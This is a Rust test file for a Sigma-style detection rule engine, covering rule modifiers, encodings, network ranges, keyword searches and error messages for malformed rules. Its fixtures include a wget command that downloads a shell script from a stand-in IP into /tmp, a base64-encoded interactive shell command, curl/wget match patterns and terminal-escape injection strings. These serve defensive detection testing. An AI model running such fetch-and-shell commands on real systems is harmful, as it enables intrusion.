//! The rule format: what each modifier and condition means, and what is said about rules that are wrong.

#![allow(clippy::unwrap_used)] // A test that cannot build its rule has failed.

mod common;

use common::{build, exec, good, inspect, process, rule};
use defender_detect::{Placeholders, RuleSet};
use defender_model::event::Event;

fn event() -> Event {
    exec(process("/usr/bin/Wget", &["wget", "-q", "http://198.51.100.7/A.sh", "-O", "/tmp/ä b"]))
}

#[track_caller]
fn holds(detection: &str, event: &Event) -> bool {
    !inspect(good(&[&rule(detection)]), std::slice::from_ref(event)).is_empty()
}

#[test]
fn values_and_modifiers() {
    // The command line is: wget -q http://198.51.100.7/A.sh -O /tmp/ä b
    for (item, expected) in [
        ("Image: /usr/bin/wget", true),
        ("Image: /usr/bin/wge", false),
        ("Image: '*/wget'", true),
        ("Image: '/usr/*/wge?'", true),
        ("Image: '/usr/*/wget?'", false),
        (r"Image: '\*/wget'", false),
        ("Image|cased: /usr/bin/wget", false),
        ("Image|cased: /usr/bin/Wget", true),
        ("Image|endswith: /WGET", true),
        ("Image|endswith|cased: /WGET", false),
        ("Image|startswith: /USR/", true),
        ("Image|contains: bin", true),
        ("Image: [/bin/sh, /usr/bin/wget]", true),
        ("Image|contains: [curl, wget]", true),
        ("Image|contains|all: [usr, wget]", true),
        ("Image|contains|all: [usr, curl]", false),
        ("Image|neq: /bin/sh", true),
        ("Image|neq: [/bin/sh, /usr/bin/wget]", false),
        ("CommandLine|contains: 'a.SH -o'", true),
        ("CommandLine|contains: 'http*.sh'", true),
        ("CommandLine|contains: 'http?.sh'", false),
        ("CommandLine|contains: /tmp/Ä", false),
        ("CommandLine|contains: /TMP/ä", true),
        ("CommandLine|endswith: '?b'", true),
        ("CommandLine|contains: ''", true),
        ("CommandLine: ''", false),
        ("CommandLine|re: '^wget\\s.*\\.sh'", true),
        ("CommandLine|re: '^WGET'", false),
        ("CommandLine|re|i: '^WGET'", true),
        ("CommandLine|re: ['^curl', 'tmp']", true),
        ("CommandLine|re: 'tmp/..b'", true),
        ("CommandLine|re: 'tmp/...b'", false),
        ("CommandLine|re: 'tmp/ä.b'", true),
        ("CommandLine|windash|contains: ' /q '", true),
        ("tty: null", true),
        ("Image: null", false),
        ("tty|exists: false", true),
        ("tty|exists: true", false),
        ("tty: pts0", false),
        ("ProcessId: 4444", true),
        ("ProcessId: '4444'", true),
        ("ProcessId: 444", false),
        ("ProcessId|gt: 4443", true),
        ("ProcessId|lte: 4443", false),
        ("ProcessId|lt: 4444.5", true),
        ("ProcessId|contains: '44'", true),
        ("uid: 0", true),
        ("auid: 0", false),
        ("ParentImage: /bin/sh", true),
        ("ParentImage|fieldref: Image", false),
        ("CommandLine|fieldref: CommandLine", true),
        ("CommandLine|fieldref|contains: CurrentDirectory", true),
        ("CommandLine|fieldref|startswith: CurrentDirectory", false),
        ("User: Root", true),
    ] {
        assert_eq!(holds(&format!("s:\n  {item}\ncondition: s"), &event()), expected, "{item}");
        assert_eq!(holds(&format!("s:\n  {item}\ncondition: not s"), &event()), !expected, "not {item}");
    }
}

#[test]
fn encodings() {
    let shell = exec(process("/bin/sh", &["sh", "-c", "echo eHggL2Jpbi9zaCAtaQ== | base64 -d"]));
    assert!(holds("s:\n  CommandLine|base64offset|contains: /bin/sh -i\ncondition: s", &shell));
    assert!(!holds("s:\n  CommandLine|base64offset|contains: /bin/bash\ncondition: s", &shell));
    assert!(holds("s:\n  CommandLine|base64|contains: 'xx /bin/sh -i'\ncondition: s", &shell));
    // "ab" in UTF-16: 61 00 62 00.
    let wide = exec(process("/bin/sh", &["sh", "-c", "echo YQBiAA=="]));
    assert!(holds("s:\n  CommandLine|wide|base64|contains: ab\ncondition: s", &wide));
    assert!(holds("s:\n  CommandLine|utf16le|base64offset|contains: ab\ncondition: s", &wide));
    assert!(!holds("s:\n  CommandLine|utf16be|base64offset|contains: ab\ncondition: s", &wide));
}

#[test]
fn networks() {
    let text = |network: &str| {
        format!(
            "title: T\nid: t\nlogsource: {{product: linux, service: sshd}}\ndetection:\n  s:\n    src_ip|cidr: {network}\n  condition: s\n"
        )
    };
    let from = |address| common::failure(0, address, "root");
    let fires = |network: &str, event: &Event| {
        !inspect(good(&[&text(network)]), std::slice::from_ref(event)).is_empty()
    };
    assert!(fires("198.51.100.0/24", &from(Some("198.51.100.7"))));
    assert!(!fires("198.51.101.0/24", &from(Some("198.51.100.7"))));
    assert!(fires("['10.0.0.0/8', '2001:db8::/32']", &from(Some("2001:db8::1"))));
    assert!(!fires("0.0.0.0/0", &from(None)));
}

#[test]
fn searches() {
    let e = &event();
    assert!(holds("a: [wget, nothing]\ncondition: a", e), "keywords are alternatives");
    assert!(holds("a:\n  '|all': [wget, '100.7']\ncondition: a", e));
    assert!(!holds("a:\n  '|all': [wget, nothing]\ncondition: a", e));
    assert!(holds("a: 'http*sh'\ncondition: a", e));
    assert!(holds("a:\n- Image|endswith: /curl\n- Image|endswith: /wget\n  uid: 0\ncondition: a", e));
    assert!(!holds("a:\n- Image|endswith: /curl\n- Image|endswith: /wget\n  uid: 1\ncondition: a", e));
    assert!(holds("a:\n  uid: 1\nb1:\n  uid: 0\nb2:\n  uid: 2\ncondition: 1 of b* and not a", e));
    assert!(!holds("a:\n  uid: 0\nb:\n  uid: 2\ncondition: all of them", e));
    assert!(holds("a:\n  uid: 0\nb:\n  uid: 2\n_c:\n  uid: 3\ncondition: 1 of them", e));
    assert!(holds("a:\n  uid: 1\nb:\n  uid: 0\ncondition: [a, b]", e), "several conditions are alternatives");
    let two = "a:\n  uid: 0\nb:\n  euid: 0\nc:\n  gid: 0\ncondition: 2 of them";
    assert!(holds(two, e));
    assert!(!holds(&two.replace("euid: 0", "euid: 1"), e));
}

#[test]
fn placeholders() {
    let text = rule("s:\n  Image|expand: '/usr/bin/%tools%'\ncondition: s");
    let values = |list: &[&str]| {
        Placeholders::from([("tools".to_owned(), list.iter().map(|s| (*s).to_owned()).collect())])
    };
    let with = |p| RuleSet::builder().placeholders(p).add_source("x.yml", text.as_bytes()).build();
    let fires = |list: &[&str]| !inspect(with(values(list)).0, &[event()]).is_empty();
    assert!(fires(&["curl", "wget"]));
    assert!(fires(&["curl", "wg*"]), "a value may be a pattern");
    assert!(!fires(&["curl", r"wg\*"]));
    let escaped = rule(
        r"s:
  CommandLine|expand|contains: 'a\%b%tools%'
condition: s",
    );
    let plain = exec(process("/bin/x", &["x", "a%bwget"]));
    let set =
        RuleSet::builder().placeholders(values(&["wget"])).add_source("x.yml", escaped.as_bytes()).build().0;
    assert_eq!(inspect(set, &[plain]).len(), 1);
    assert_eq!(with(Placeholders::new()).1[0].cause.name(), "value");
    let many = values(&vec!["x"; 2000]);
    assert_eq!(with(many).1[0].cause.name(), "too_large");
}

#[test]
fn what_is_wrong_is_named() {
    let detection = |item: &str| rule(&format!("s:\n  {item}\ncondition: s"));
    let bomb = format!("title: T\na: &a [x]\n{}", "b: [*a, *a]\n");
    let regex = format!("CommandLine|re: '{}'", "a".repeat(60_000));
    let nested = format!("title: T\nx: {}\n", "[".repeat(100));
    for (text, kind, word) in [
        (detection("CommandLine|containz: x"), "modifier", "containz"),
        (detection("CommandLine|: x"), "modifier", "missing"),
        (detection("CommandLine|i: x"), "modifier", "`re`"),
        (detection("CommandLine|re|contains|endswith: x"), "modifier", "endswith"),
        (detection("CommandLine|base64|contains: 'a*'"), "modifier", "wildcards"),
        (detection("ProcessId|gt: x"), "modifier", "number"),
        (detection("ProcessId|exists: 1"), "modifier", "true or false"),
        (detection("ProcessId|hour: 1"), "unsupplied", "hour"),
        (detection("CommandLine|re: '(a'"), "value", "(a"),
        (detection(&regex), "too_large", "bound"),
        (detection("CommandLine|cidr: x"), "value", "CIDR"),
        (detection("Hashes: x"), "unsupplied", "Hashes"),
        (detection("CommandLine: []"), "structure", "empty"),
        (detection("CommandLine: {a: b}"), "structure", "scalar"),
        (rule("s: {}\ncondition: s"), "structure", "everything"),
        (rule("s:\n  uid: 0\ncondition: t"), "condition", "`t`"),
        (rule("s:\n  uid: 0\ncondition: s | count() > 5"), "condition", "correlation"),
        (rule("s:\n  uid: 0"), "structure", "condition"),
        (rule("s:\n  uid: 0\ntimeframe: 5m\ncondition: s"), "structure", "timeframe"),
        (rule("s:\n  uid: 0\ncondition: s").replace("level: high", "level: severe"), "structure", "level"),
        (rule("s:\n  uid: 0\ncondition: s").replace("linux", "windows"), "unsupplied", "windows"),
        (
            rule("s:\n  uid: 0\ncondition: s").replace("process_creation", "registry_set"),
            "unsupplied",
            "registry_set",
        ),
        (rule("s:\n  uid: 0\ncondition: s") + "defender: {respons: x}\n", "structure", "respons"),
        (rule("s:\n  uid: 0\ncondition: s") + "defender: {response: explode}\n", "structure", "block_source"),
        (rule("s:\n  uid: 0\ncondition: s") + "defender: {replaces: 'a b'}\n", "structure", "identifiers"),
        (rule("s:\n  uid: 0\ncondition: s") + "taxonomy: ecs\n", "unsupplied", "ecs"),
        ("a: b\n".to_owned(), "structure", "title"),
        ("- a\n".to_owned(), "structure", "mapping"),
        ("title: T\n".to_owned(), "structure", "neither"),
        ("title: T\naction: global\n".to_owned(), "structure", "action"),
        (bomb, "yaml", "alias"),
        (nested, "too_large", "nested"),
        ("title: [\n".to_owned(), "yaml", ""),
    ] {
        let (rules, errors) = build(&[&text]);
        assert_eq!(rules.rules().len(), 0, "{text}");
        assert_eq!(errors.len(), 1, "{text}: {errors:?}");
        let shown = errors[0].to_string();
        assert_eq!(errors[0].cause.name(), kind, "{text}: {shown}");
        assert!(shown.contains(word), "{word}: {shown}");
        assert!(shown.starts_with("0.yml:"), "{shown}");
        assert!(!shown.contains(char::is_control), "{shown}");
    }
}

#[test]
fn a_bad_rule_stops_no_other() {
    let text = format!(
        "{}---\n{}---\n{{ bad\n---\n{}",
        rule("s:\n  uid: 0\ncondition: s"),
        rule("s:\n  uid: 0\ncondition: s"),
        rule("s:\n  euid: 0\ncondition: s").replace("id: t", "id: u")
    );
    let (rules, errors) =
        build(&[&text, "\u{fffd}", &rule("s:\n  gid: 0\ncondition: s").replace("id: t", "id: v")]);
    assert_eq!(rules.rules().map(|r| r.info.id.as_str()).collect::<Vec<_>>(), ["t", "u", "v"]);
    let kinds: Vec<_> = errors.iter().map(|e| (e.file.as_str(), e.cause.name())).collect();
    assert_eq!(kinds, [("0.yml", "yaml"), ("1.yml", "structure"), ("0.yml", "duplicate_id")]);
    assert_eq!(inspect(rules, &[event()]).len(), 2);
}

#[test]
fn metadata_is_kept() {
    let text = rule("s:\n  uid: 0\ncondition: s")
        + "description: >-\n  Some\n  words\ntags: [attack.t1059.004, attack.defense-evasion, attack.g0001, cve.2024-1]\nstatus: test\n\
           defender: {replaces: [IoT_ReverseShell, IoT_WebShell]}\n";
    let rules = good(&[&text]);
    let rule = rules.rules().next().unwrap();
    assert_eq!(rule.info.techniques, ["T1059.004"]);
    assert_eq!(rule.info.tactics, ["defense-evasion"]);
    assert_eq!(rule.info.description, "Some words");
    assert_eq!(rule.info.replaces, ["IoT_ReverseShell", "IoT_WebShell"]);
    assert_eq!(rule.logsource, "linux/process_creation");
    assert_eq!((rule.kind.name(), rule.enabled, rule.alerts), ("event", true, true));
}

#[test]
fn findings_escape_what_an_attacker_wrote() {
    let hostile = exec(process("/tmp/\u{1b}[2J", &["x\u{1b}]0;owned\u{7}\n", &"A".repeat(1 << 20)]));
    let findings = inspect(good(&[&rule("s:\n  uid: 0\ncondition: s")]), &[hostile]);
    let message = &findings[0].message;
    assert!(!message.contains(char::is_control), "{message}");
    assert!(message.len() < 1000 && message.ends_with("..."), "{message}");
}
